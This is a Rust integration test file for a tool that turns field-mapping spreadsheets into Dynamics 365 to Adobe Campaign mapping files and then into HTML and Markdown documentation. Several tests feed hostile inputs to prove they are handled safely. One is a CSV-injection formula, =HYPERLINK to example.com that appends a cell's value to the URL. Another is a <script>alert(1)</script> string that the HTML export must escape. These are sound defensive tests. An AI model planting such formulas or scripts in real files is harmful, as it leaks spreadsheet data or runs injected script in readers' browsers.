//! Spreadsheets into mapping files, and mapping files into documentation.

use std::path::Path;
use std::process::{Command, Output};

use d365map::check::{Input, compile};
use d365map::import::{Reading, import, read};
use d365map::report::{collect, html, markdown};
use d365map::schema::{Catalogue, TableId};
use proptest::prelude::*;

fn run(folder: &Path, args: &[&str]) -> (i32, String, String) {
    let Output { status, stdout, stderr } =
        Command::new(env!("CARGO_BIN_EXE_d365map")).args(args).current_dir(folder).output().expect("it runs");
    (status.code().unwrap_or(-1), String::from_utf8(stdout).expect("UTF-8"), String::from_utf8(stderr).expect("UTF-8"))
}

/// The text of one table of fields.
fn imported(csv: &[u8]) -> d365map::import::Imported {
    let table = |name: &str| Catalogue::builtin().get(&TableId::parse(name).expect("a name")).expect("built in").clone();
    let found = read(Path::new("a.csv"), "a.csv", csv, &Reading::default()).expect("a table");
    import("contacts", &table("d365.contact"), &table("campaign.profile"), &found.tables, None)
}

#[test]
fn the_example_tables_become_one_mapping_and_nothing_is_lost() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let (status, out, error) =
        run(root, &["import", "examples/import/fields.csv", "examples/import/replacements.csv", "examples/import/filters.csv"]);
    assert_eq!(status, 1);
    insta::assert_snapshot!(format!("{out}----\n{error}"));
}

#[test]
fn separators_encodings_and_names_of_columns_are_found_out() {
    let entry = |csv: &[u8]| imported(csv).text.lines().nth(3).unwrap_or_default().trim().to_owned();
    let wanted = "lastname -> lastName";
    assert_eq!(entry(b"Source,Target\nlastname,lastName\n"), wanted);
    assert_eq!(entry(b"Dynamics 365 field;Adobe Campaign field\r\nlastname;lastName\r\n"), wanted);
    assert_eq!(entry(b"\xEF\xBB\xBFD365 Attribute\tCampaign attribute\nLast Name\tLASTNAME\n"), wanted);
    // Windows-1252, with a quoted line break.
    let umlaut = imported(b"Source,Target,Notes\nlastname,lastName,\"f\xFCr\nalle\"\n").text;
    assert!(umlaut.contains("# f\u{fc}r\n  # alle\n  lastname -> lastName"), "{umlaut}");
    let error = read(Path::new("a.csv"), "a.csv", b"one,two\n1,2\n", &Reading::default()).expect_err("no table").to_string();
    assert!(error.contains("`one`, `two`") && error.contains("--kind"), "{error}");
}

/// Spreadsheet programs run a cell that begins with one of these characters as a formula (OWASP: *CSV Injection*). Here it is text: nothing is
/// run, nothing is added or lost, and a check of the mapping shows what it is.
#[test]
fn a_cell_with_a_formula_is_text_like_any_other() {
    let cells = ["=HYPERLINK(\"https://example.com?\"&A1,\"open\")", "+1+1", "-2+3", "@SUM(1;2)", "=1\tx", "a\rb"];
    for cell in cells {
        let mut writer = csv::Writer::from_writer(Vec::new());
        writer.write_record(["source", "target", "default"]).unwrap();
        writer.write_record(["jobtitle", "middleName", cell]).unwrap();
        writer.write_record([cell, "firstName", ""]).unwrap();
        let result = imported(&writer.into_inner().unwrap());
        let literal = cell.replace('"', "\\\"").replace('\t', "\\t").replace('\r', "");
        assert!(result.text.contains(&format!("\"{literal}\"")), "{cell:?}: {}", result.text);
        let hidden = result.text.chars().find(|c| c.is_control() && !matches!(c, '\n' | '\t'));
        assert_eq!(hidden, None, "{cell:?}: {:?}", result.text);
        let compiled = compile(vec![Input { name: "a".to_owned(), bytes: result.text.clone().into_bytes() }], Catalogue::builtin());
        assert!(!compiled.diagnostics.iter().any(|d| d.code.name().starts_with("D0")), "{cell:?}: {}", result.text);
    }
}

#[test]
fn a_table_of_yaml_holds_all_three_kinds() {
    let folder = tempfile::tempdir().expect("a folder");
    let text = "fields:\n  - { source: gendercode, target: gender }\n  - { source: lastname, target: lastName, steps: trim }\nreplacements:\n  - { field: gendercode, existing value: Male, new value: male }\n  - { field: gendercode, existing value: else, new value: unknown }\n  - { field: gendercode, existing value: '', new value: unknown }\nfilters:\n  - { field: Status, comparison: equals, value: Active }\n";
    std::fs::write(folder.path().join("t.yaml"), text).expect("a file");
    let (status, out, error) = run(folder.path(), &["import", "t.yaml", "-o", "contacts.d365map"]);
    assert_eq!((status, out.as_str()), (0, ""), "{error}");
    assert_eq!(run(folder.path(), &["check", "contacts.d365map"]).0, 0);
    assert_eq!(run(folder.path(), &["fmt", "--check", "contacts.d365map"]).0, 0);
    let (status, _, error) = run(folder.path(), &["import", "t.yaml", "-o", "contacts.d365map"]);
    assert!(status == 2 && error.contains("nothing was written"), "{error}");
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 200, ..ProptestConfig::default() })]

    #[test]
    fn any_cells_make_a_file_that_reads_and_no_row_is_lost(
        rows in prop::collection::vec((prop_oneof!["\\PC{0,20}", Just("lastname".to_owned()), Just("{a} b".to_owned())], prop_oneof!["\\PC{0,20}", Just("email".to_owned())], "\\PC{0,20}", "\\PC{0,12}"), 0..8),
    ) {
        let mut writer = csv::Writer::from_writer(Vec::new());
        writer.write_record(["source", "target", "steps", "default"]).unwrap();
        for (a, b, c, d) in &rows {
            writer.write_record([a, b, c, d]).unwrap();
        }
        let result = imported(&writer.into_inner().unwrap());
        let compiled = compile(vec![Input { name: "a".to_owned(), bytes: result.text.clone().into_bytes() }], Catalogue::builtin());
        prop_assert!(!compiled.diagnostics.iter().any(|d| d.code.name().starts_with("D0")), "{}", result.text);
        let filled = rows.iter().filter(|(a, b, c, d)| [a, b, c, d].iter().any(|x| !x.trim().is_empty())).count();
        let entries = result.text.lines().filter(|l| l.contains("# TODO ")).count() + result.text.lines().filter(|l| !l.trim_start().starts_with('#') && l.contains("->")).count();
        // The head and the key are not rows; a row may be the key itself.
        prop_assert!(entries >= filled, "{} of {}\n{}", entries, filled, result.text);
    }

    #[test]
    fn a_mapping_written_as_a_table_and_read_again_is_the_same(
        picked in prop::sample::subsequence(vec![
            ("firstname", "firstName", "truncate(30)", true), ("lastname", "lastName", "", true), ("emailaddress1", "email", "trim | lower", true), ("address1_city", "location.city", "truncate(50)", false),
            ("birthdate", "birthDate", "", true), ("fax", "fax", "truncate(32)", false), ("salutation", "salutation", "truncate(20)", true),
        ], 1..7),
    ) {
        let mut mapping = String::from("mapping contacts: d365.contact -> campaign.profile {\n  key contactid -> externalId\n");
        let mut table = String::from("source,target,steps,apply updates\ncontactid,externalId,,\n");
        for (source, target, steps, updates) in picked {
            let bar = if steps.is_empty() { "" } else { " | " };
            mapping.push_str(&format!("  {source} -> {target}{bar}{steps}{}\n", if updates { "" } else { " @initial" }));
            table.push_str(&format!("{source},{target},\"{steps}\",{}\n", if updates { "yes" } else { "no" }));
        }
        mapping.push_str("}\n");
        let plan = |text: &str| compile(vec![Input { name: "a".to_owned(), bytes: text.as_bytes().to_vec() }], Catalogue::builtin()).plan.expect("a plan");
        prop_assert_eq!(plan(&mapping).ingress[0].fingerprint(), plan(&imported(table.as_bytes()).text).ingress[0].fingerprint());
    }
}

#[test]
fn the_shipped_mapping_is_documented_with_types_on_both_sides() {
    let (status, out, error) = run(Path::new(env!("CARGO_MANIFEST_DIR")), &["export", "mappings"]);
    assert_eq!(status, 0, "{error}");
    insta::assert_snapshot!(out);
}

#[test]
fn a_page_is_well_formed_and_shows_hostile_text_as_text() {
    let text = "# <script>alert(1)</script> & more\nmapping contacts: d365.contact -> campaign.profile {\n  key contactid -> externalId\n  \"<b>|`*\" -> lastName # it's \"so\"\n  gendercode -> gender | map { Male => male; else => unknown; null => unknown }\n}\noptout contacts {\n  direction bidirectional\n  followemail <-> not denyList # consent\n}\n";
    let mut diagnostics = d365map::diagnostics::Diagnostics::default();
    let file = d365map::syntax::parse(d365map::diagnostics::FileId(0), text, &mut diagnostics);
    let document = collect("a.d365map", text, &file, Catalogue::builtin());
    let page = html(&document);
    let mut reader = quick_xml::Reader::from_str(&page);
    let mut open = 0;
    loop {
        match reader.read_event().expect("well-formed") {
            quick_xml::events::Event::Start(_) => open += 1,
            quick_xml::events::Event::End(_) => open -= 1,
            quick_xml::events::Event::Eof => break,
            _ => {}
        }
    }
    assert_eq!(open, 0);
    assert!(!page.contains("<script>") && !page.contains("<b>"), "{page}");
    let plain = markdown(&document);
    assert!(plain.contains("\\<script>") && plain.contains("\\|"), "{plain}");
    assert!(plain.contains("it's \"so\"") && plain.contains("consent"), "{plain}");
    assert_eq!(html(&document), page, "the same bytes each time");
}

#[test]
fn the_tables_of_an_imported_mapping_are_looked_for_from_the_folder_where_it_is_written() {
    let folder = tempfile::tempdir().expect("a folder");
    let write = |name: &str, text: &str| std::fs::write(folder.path().join(name), text).expect("a file");
    std::fs::create_dir_all(folder.path().join("mappings/tables")).expect("a folder");
    write("mappings/tables/codes.csv", "code,label\nA,Agriculture\n");
    write("fields.csv", "Source,Target,Steps\nlastname,lastName,\njobtitle,middleName,\"lookup(codes.label) or null, truncate(20)\"\n");
    write("options.csv", "Option,Value\ntable,\"codes from \"\"tables/codes.csv\"\" { key code }\"\n");
    let (status, _, error) = run(folder.path(), &["import", "fields.csv", "options.csv", "-o", "mappings/contacts.d365map"]);
    assert!(!error.contains("D321"), "{error}");
    let (checked, _, said) = run(folder.path(), &["check", "mappings/contacts.d365map"]);
    assert_eq!(status, checked, "import and check agree: {error}{said}");
    // In another folder, there is no such table.
    let (_, _, error) = run(folder.path(), &["import", "fields.csv", "options.csv", "-o", "contacts.d365map"]);
    assert!(error.contains("D321"), "{error}");
}
